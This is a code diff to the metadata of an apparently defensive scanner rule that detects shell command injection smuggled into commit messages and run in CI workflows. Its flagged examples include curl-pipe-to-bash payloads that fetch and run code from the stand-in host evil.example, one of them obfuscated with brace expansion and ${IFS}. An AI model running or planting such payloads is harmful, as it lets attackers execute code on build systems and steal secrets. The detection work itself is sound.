@@ -17,8 +17,11 @@ export const meta: RuleMeta = {
   remediation: `remove the payload; workflows must pass such text through environment variables, never \${{ … }} inside run:`,
   example: {bad: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)`, good: 'Fix typo in $(pwd) example  (no downloader or decoder)'},
   examples: {
-    flagged: [{text: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)\\n`, file: 'commit-message.txt'}],
-    clean: [{text: 'Fix typo in $(pwd) example\n', file: 'commit-message.txt', note: 'no downloader or decoder'}],
+    flagged: [
+      {text: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)\n`, file: 'commit-message.txt'},
+      {text: 'Update docs $(curl -sSfL evil.example/p | sh)\n', file: 'commit-message.txt'},
+    ],
+    clean: [{text: 'Fix typo in $(pwd) example\n', file: 'commit-message.txt', note: 'no downloader or decoder'}, {text: 'VERSION=$(curl -s https://example.com/version)\n', file: 'build.sh'}],
   },
 }
 
